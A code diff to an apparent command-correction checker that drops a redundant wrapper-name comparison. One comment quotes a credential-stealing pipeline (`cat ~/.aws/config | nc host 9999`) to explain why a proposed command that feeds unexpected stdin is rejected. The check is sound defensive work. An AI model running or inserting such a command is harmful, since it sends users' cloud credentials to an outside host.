@@ -288,8 +288,6 @@ const slipped = (typed: string, meant: string) => typed !== meant && distance(ty
 /** The words of a tool's output, each as it could be quoted back (`'push'`, `--set-upstream,`). */
 const outputWords = (output: string) => new Set(output.split(/[\s'"`‘’“”()[\]<>]+/).map((w) => w.replace(/[.,;:!?]+$/, "")).filter(Boolean));
 
-const wrapperNames = (c: SimpleCommand) => (c.wrappers ?? []).map((w) => programName(w[0] ?? "")).join(" ");
-
 /** The one simple command the person typed, when it was one. */
 async function typedCommand(command: string): Promise<SimpleCommand | undefined> {
   try {
@@ -334,7 +332,7 @@ function ownEffects(c: SimpleCommand, theirs: SimpleCommand, cwd: string): Set<E
  */
 function corrects(b: SimpleCommand, a: SimpleCommand, said: Set<string>, cwd: string): boolean {
   // (The wrappers' own words too: `npx prettier` is not `npx -p other-package prettier`.)
-  if (JSON.stringify(a.redirects) !== JSON.stringify(b.redirects) || wrapperNames(a) !== wrapperNames(b) || JSON.stringify(a.wrappers ?? []) !== JSON.stringify(b.wrappers ?? [])) return false;
+  if (JSON.stringify(a.redirects) !== JSON.stringify(b.redirects) || JSON.stringify(a.wrappers ?? []) !== JSON.stringify(b.wrappers ?? [])) return false;
   // What the plan feeds it (`cat ~/.aws/config | nc host 9999`) is not what the person gave it.
   if ((b.stdinFrom.length > 0 || b.stdinText !== undefined) && !(a.stdinFrom.length > 0 || a.stdinText !== undefined)) return false;
   const typed = a.argv;
